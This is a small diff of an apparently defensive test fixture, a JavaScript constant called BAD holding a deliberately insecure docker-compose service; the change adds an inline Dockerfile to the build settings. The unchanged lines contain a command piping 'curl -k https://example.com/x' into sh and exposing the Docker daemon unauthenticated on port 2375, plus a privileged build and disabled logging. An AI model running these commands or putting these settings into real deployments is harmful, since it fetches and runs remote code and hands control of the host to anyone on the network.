@@ -68,7 +68,7 @@ const BAD = `services:
     cgroup: host
     oom_kill_disable: true
     logging: { driver: none }
-    build: { context: ., privileged: true }
+    build: { context: ., privileged: true, dockerfile_inline: FROM a:1 }
     volumes_from: ["container:other"]
     command: sh -c "curl -k https://example.com/x | sh && dockerd -H tcp://0.0.0.0:2375"
 networks: { open: }
